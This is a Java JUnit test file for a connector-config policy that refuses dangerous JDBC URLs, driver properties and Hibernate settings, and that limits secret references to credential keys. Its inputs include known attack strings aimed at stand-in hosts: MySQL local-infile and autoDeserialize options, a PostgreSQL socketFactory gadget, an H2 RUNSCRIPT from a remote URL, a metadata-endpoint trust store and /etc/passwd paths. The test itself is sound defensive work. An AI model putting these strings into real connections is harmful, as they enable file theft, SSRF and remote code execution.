package io.switchboard.rules;

import io.switchboard.schemas.ConnectorCommand;
import io.switchboard.schemas.CreateConnector;
import io.switchboard.schemas.Outcome;
import io.switchboard.schemas.TargetState;
import org.junit.jupiter.api.Test;

import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * What a config gives a JDBC driver is judged as an allowlist: a URL's scheme, hosts and properties,
 * driver properties by key, Hibernate settings; and a key this policy reads holds no reference.
 */
class JdbcDriverPropertiesTest {
    private static final String SINK = "io.debezium.connector.jdbc.JdbcSinkConnector";
    private static final String PG_SOURCE = "io.debezium.connector.postgresql.PostgresConnector";

    private static ConnectorPolicies.Refusal refusal(String key, String value) {
        Map<String, String> config = new HashMap<>(Map.of("connector.class", SINK, "topics", "orders"));
        config.put(key, value);
        return ConnectorPolicies.refusal(ConnectorPoliciesTest.CONTROL_PLANE, config);
    }

    @Test
    void driverPropertiesThatReadFilesOrDeserializeAreRefused() {
        for (String url : List.of(
                "jdbc:mysql://attacker:3306/x?allowLoadLocalInfile=true",
                "jdbc:mysql://attacker:3306/x?ALLOWLOADLOCALINFILE=TRUE",
                "jdbc:mysql://attacker:3306/x?useSSL=false&allowUrlInLocalInfile=true",
                "jdbc:mysql://attacker:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://attacker:3306/x?statementInterceptors=x",
                "jdbc:mysql://address=(host=attacker)(port=3306)(allowLoadLocalInfile=true)/x",
                "jdbc:mysql://attacker:3306/x?allow%4CoadLocalInfile=true",
                "jdbc:mariadb://attacker:3306/x?allowLocalInfile=true",
                "jdbc:postgresql://attacker/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://attacker/x?loggerFile=/tmp/x")) {
            ConnectorPolicies.Refusal refused = refusal("connection.url", url);
            assertTrue(refused != null && refused.policy().equals(JdbcDriverProperties.POLICY), url + ": " + refused);
        }
        ConnectorPolicies.Refusal separate = refusal("driver.allowLoadLocalInfile", "true");
        assertEquals("Connector config refused by policy jdbc-driver-properties: driver.allowLoadLocalInfile names the JDBC driver "
                + "property allowloadlocalinfile, which lets a database read the worker's files or run code on it", separate.message());
        assertTrue(refusal("hibernate.connection.AutoDeserialize", "true") != null);
        assertTrue(refusal("connection.properties", "autoDeserialize=true") != null);

        ConnectorCommand create = ConnectorCommand.newBuilder().setCommandId("c").setCluster("default").setConnector("j1")
                .setPrincipal("erin").setIssuedAt(1L).setAction(new CreateConnector(Map.of("connector.class", SINK, "topics", "t",
                        "connection.url", "jdbc:mysql://attacker:3306/x?allowLoadLocalInfile=true"), TargetState.RUNNING, null)).build();
        Decision decision = CommandDecider.decide(ConnectorPoliciesTest.CONTROL_PLANE, UserPolicies.NONE, null, null, create);
        assertEquals(Outcome.REJECTED, decision.outcome());
        assertEquals(DecisionReasons.REFUSED_BY_POLICY, decision.reason());
    }

    @Test
    void ordinaryUrlsAndPropertiesAreNot() {
        assertNull(refusal("connection.url", "jdbc:postgresql://db:5432/orders?sslmode=require&ApplicationName=sink"));
        assertNull(refusal("connection.url", "jdbc:mysql://db:3306/orders?useSSL=true&serverTimezone=UTC"));
        assertNull(refusal("database.hostname", "db"));
        assertTrue(PolicyDecider.BUILT_IN.contains(JdbcDriverProperties.POLICY));
    }

    private static ConnectorPolicies.Refusal refusal(String connectorClass, String... keysAndValues) {
        Map<String, String> config = new HashMap<>(Map.of("connector.class", connectorClass, "topics", "orders"));
        for (int i = 0; i < keysAndValues.length; i += 2) {
            config.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        return ConnectorPolicies.refusal(ConnectorPoliciesTest.CONTROL_PLANE, config);
    }

    private static void assertRefused(String policy, String key, String named, ConnectorPolicies.Refusal refusal) {
        assertTrue(refusal != null, key + " refused");
        assertEquals(policy, refusal.policy(), refusal.message());
        assertEquals(key, refusal.key(), refusal.message());
        assertTrue(refusal.message().contains(named), refusal.message());
    }

    @Test
    void aReferenceInAnyKeyThePolicyReadsIsRefusedNamingTheKey() {
        // A named secret may hold allowLoadLocalInfile=true, or change to it later: the URL must hold its value itself.
        assertRefused("config-references", "connection.url", "connection.url holds a config provider reference",
                refusal("connection.url", "jdbc:mysql://127.0.0.1:13306/x?${secretsManager:Q}"));
        for (String key : List.of("connection.url", "hibernate.connection.url", "hibernate.connection.socketFactory", "driver.x",
                "database.hostname", "database.dbname", "database.sslrootcert", "hibernate.jndi.url", "connection.properties")) {
            assertRefused("config-references", key, key, refusal(PG_SOURCE, key, "${secretsManager:Q}"));
        }
        assertRefused("config-references", "anything", "anything", refusal(SINK, "anything", "jdbc:postgresql://db/x?${env:X}"));
        // Credentials are what references are for.
        assertNull(refusal(PG_SOURCE, "database.hostname", "db", "database.password", "${secretsManager:PG}", "database.user",
                "${secretsManager:PG_USER}", "database.sslpassword", "${secretsManager:K}"));
        assertNull(refusal(SINK, "connection.url", "jdbc:postgresql://db:5432/orders", "connection.username", "${secretsManager:U}",
                "connection.password", "${secretsManager:P}", "hibernate.connection.password", "${secretsManager:P}"));
    }

    @Test
    void aJdbcUrlIsJudgedByItsDriversAllowlist() {
        for (String url : List.of(
                "jdbc:mysql://evil:3306/x?idTokenFile=../secrets.key",
                "jdbc:mysql://evil:3306/x?authenticationOpenidConnectCallbackHandler=com.mysql.cj.callback.OpenidConnectIdTokenFromFileCallbackHandler",
                "jdbc:mysql://evil:3306/x?defaultAuthenticationPlugin=authentication_openid_connect_client",
                "jdbc:mysql://evil:3306/x?allowLoadLocalInfileInPath=/",
                "jdbc:mysql://evil:3306/x?trustCertificateKeyStoreUrl=http://169.254.169.254/",
                "jdbc:mysql://evil:3306/x?useConfigs=maxPerformance",
                "jdbc:mysql://(host=evil,port=3306,allowLoadLocalInfile=true)/x",
                "jdbc:mysql:loadbalance://evil:3306/x",
                "jdbc:mysql://user:pw@evil/x",
                "jdbc:mariadb://evil/x?serverSslCert=/etc/passwd",
                "jdbc:postgresql://evil/x?sslfactoryarg=x",
                "jdbc:postgresql://evil/x?sslpasswordcallback=x",
                "jdbc:postgresql://evil/x?authenticationPluginClassName=x",
                "jdbc:postgresql://evil/x?jaasApplicationName=x",
                "jdbc:postgresql://evil/x%3FloggerFile=x",
                "jdbc:sqlserver://evil:1433;databaseName=x;socketFactoryClass=x",
                "jdbc:sqlserver://evil:1433;trustStore=/etc/passwd",
                "jdbc:sqlserver://evil:1433;databaseName={x;integratedSecurity=true}",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)(PORT=1521))(SECURITY=(MY_WALLET_DIRECTORY=/x)))",
                "jdbc:oracle:thin:@evil:1521/x?TNS_ADMIN=/x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "JDBC:MYSQL://evil/x",
                "jdbc:postgresql://db/x ?socketFactory=x",
                " jdbc:postgresql://db/x")) {
            ConnectorPolicies.Refusal refused = refusal("connection.url", url);
            assertTrue(refused != null && refused.policy().equals(JdbcDriverProperties.POLICY) && refused.key().equals("connection.url"),
                    url + ": " + refused);
        }
        assertEquals("Connector config refused by policy jdbc-driver-properties: connection.url is a JDBC URL the policy does not "
                + "allow: it sets the driver property jaasApplicationName, which is not on the postgresql driver's allowlist",
                refusal("connection.url", "jdbc:postgresql://evil/x?jaasApplicationName=x").message());
        for (String url : List.of(
                "jdbc:postgresql://db:5432/orders?sslmode=verify-full&ApplicationName=sink&connectTimeout=10",
                "jdbc:postgresql://db-1:5432,db-2:5432/my+orders%2Db?targetServerType=primary",
                "jdbc:postgresql://[::1]:5432/orders", "jdbc:postgresql:orders",
                "jdbc:mysql://db:3306/orders?useSSL=true&serverTimezone=UTC&sslMode=VERIFY_IDENTITY",
                "jdbc:mariadb://db:3306/orders?sslMode=verify-full&connectTimeout=5000",
                "jdbc:sqlserver://db\\inst:1433;databaseName=orders;encrypt=true;trustServerCertificate=false;",
                "jdbc:oracle:thin:@//db:1521/ORCLPDB1", "jdbc:oracle:thin:@db:1521:ORCL")) {
            assertNull(refusal("connection.url", url), url);
        }
        // The JDBC sink's URL is a JDBC URL whatever it holds; another plugin's connection.url may be anything else.
        assertRefused("jdbc-driver-properties", "connection.url", "scheme", refusal(SINK, "connection.url", "http://db:9200"));
        assertNull(refusal("io.confluent.connect.elasticsearch.ElasticsearchSinkConnector", "connection.url", "http://es:9200"));
    }

    @Test
    void driverPropertiesGivenByKeyAreJudgedByTheAllowlist() {
        assertRefused("jdbc-driver-properties", "driver.idTokenFile", "idtokenfile", refusal(PG_SOURCE, "driver.idTokenFile", "/x"));
        assertRefused("jdbc-driver-properties", "database.socketFactoryArg", "socketfactory",
                refusal(PG_SOURCE, "database.socketFactoryArg", "http://evil/x.xml"));
        assertRefused("jdbc-driver-properties", "database.jaasLogin", "not on any bundled driver's allowlist",
                refusal(PG_SOURCE, "database.jaasLogin", "true"));
        assertRefused("jdbc-driver-properties", "driver.options", "options", refusal(PG_SOURCE, "driver.options", "-c x=y"));
        assertRefused("jdbc-driver-properties", "hibernate.connection.socketFactoryClass", "socketfactory",
                refusal(SINK, "hibernate.connection.socketFactoryClass", "x"));
        assertRefused("jdbc-driver-properties", "hibernate.connection.serverSslCert", "serversslcert",
                refusal(SINK, "hibernate.connection.serverSslCert", "/etc/passwd"));
        // Debezium writes host, port and database into its URL as they are.
        assertRefused("jdbc-driver-properties", "database.dbname", "URL", refusal(PG_SOURCE, "database.dbname", "orders?sslmode=disable"));
        assertRefused("jdbc-driver-properties", "database.hostname", "host name", refusal(PG_SOURCE, "database.hostname", "db/x?a=b"));
        assertRefused("jdbc-driver-properties", "database.port", "port", refusal(PG_SOURCE, "database.port", "5432/x"));
        assertNull(refusal(PG_SOURCE, "database.hostname", "db.example.com", "database.port", "5432", "database.user", "u",
                "database.password", "p", "database.dbname", "orders db", "database.sslmode", "verify-full", "database.sslrootcert",
                "/etc/ssl/ca.pem", "database.tcpKeepAlive", "true", "database.initial.statements", "SET x=1", "driver.connectTimeout", "5",
                "hibernate.connection.sslMode", "REQUIRED"));
    }

    @Test
    void hibernateSettingsAreJudgedByTheAllowlist() {
        for (String key : List.of("hibernate.connection.provider_class", "hibernate.connection.datasource", "hibernate.jndi.class",
                "hibernate.jndi.url", "hibernate.dialect", "hibernate.connection.url", "hibernate.connection.driver_class",
                "hibernate.hbm2ddl.auto", "hibernate.agroal.connectionValidator")) {
            assertRefused("jdbc-driver-properties", key, key, refusal(SINK, key, "x"));
        }
        assertNull(refusal(SINK, "connection.url", "jdbc:postgresql://db/x", "hibernate.agroal.maxSize", "8", "hibernate.agroal.minSize",
                "1", "hibernate.c3p0.max_size", "8", "hibernate.c3p0.timeout", "300", "hibernate.jdbc.time_zone", "UTC"));
    }
}
